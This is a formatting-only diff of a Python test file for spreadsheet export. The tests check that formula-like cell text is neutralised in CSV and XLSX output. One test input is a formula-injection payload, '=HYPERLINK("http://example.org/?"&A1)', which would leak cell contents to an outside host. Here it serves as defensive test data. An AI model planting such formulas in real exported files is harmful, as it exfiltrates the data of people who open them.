@@ -14,8 +14,9 @@ ROOT = Path(__file__).resolve().parent.parent
 PACKAGES = ("isok", "cases", "portfolio", "assessment", "certificates")
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
-                                  '=HYPERLINK("http://example.org/?"&A1)'])
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://example.org/?"&A1)']
+)
 def test_formula_like_text_is_written_behind_an_apostrophe_in_csv(text):
     out = io.StringIO()
     spreadsheets.CsvWriter(out).writerow([text, "Aino", 42, -7, 2.5, None])
@@ -28,7 +29,14 @@ def test_formula_like_text_is_a_text_cell_in_xlsx_and_numbers_stay_numbers():
     workbook.active["A2"] = "=2+2"  # a cell set directly, not through append_row
     cells, second = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(workbook))).active.iter_rows()
     assert [(c.data_type, c.value) for c in cells] == [
-        ("s", "=1+1"), ("s", "-just a dash"), ("s", "Aino"), ("n", 42), ("n", -7), ("n", 2.5), ("s", "tab\ufffdpasted")]
+        ("s", "=1+1"),
+        ("s", "-just a dash"),
+        ("s", "Aino"),
+        ("n", 42),
+        ("n", -7),
+        ("n", 2.5),
+        ("s", "tab\ufffdpasted"),
+    ]
     assert cells[0].quotePrefix and cells[1].quotePrefix and not cells[2].quotePrefix
     assert (second[0].data_type, second[0].value) == ("s", "=2+2")
 
@@ -42,7 +50,8 @@ def test_every_spreadsheet_is_written_through_the_one_module():
             if path == ROOT / "isok" / "spreadsheets.py":
                 continue
             source = path.read_text()
-            if re.search(r"^(import csv|from openpyxl import .*Workbook)", source, re.MULTILINE) and \
-                    bypasses.search(source):
+            if re.search(r"^(import csv|from openpyxl import .*Workbook)", source, re.MULTILINE) and bypasses.search(
+                source
+            ):
                 offenders.append(str(path.relative_to(ROOT)))
     assert offenders == []
